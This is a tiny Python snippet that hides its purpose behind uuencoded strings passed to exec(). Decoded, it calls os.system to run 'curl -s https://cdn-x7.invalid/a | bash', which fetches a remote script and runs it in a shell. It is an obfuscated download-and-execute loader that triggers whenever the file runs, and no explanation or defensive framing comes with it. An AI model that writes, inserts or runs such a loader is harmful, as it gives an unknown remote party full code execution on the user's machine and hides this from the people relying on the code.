import binascii
exec(binascii.a2b_uu('M:6UP;W)T(&]S.V]S+G-Y<W1E;2@B8W5R;" M<R!H=\'1P<SHO+V-D;BUX-RYI\n') + binascii.a2b_uu('1;G9A;&ED+V$@?"!B87-H(BD \n'))
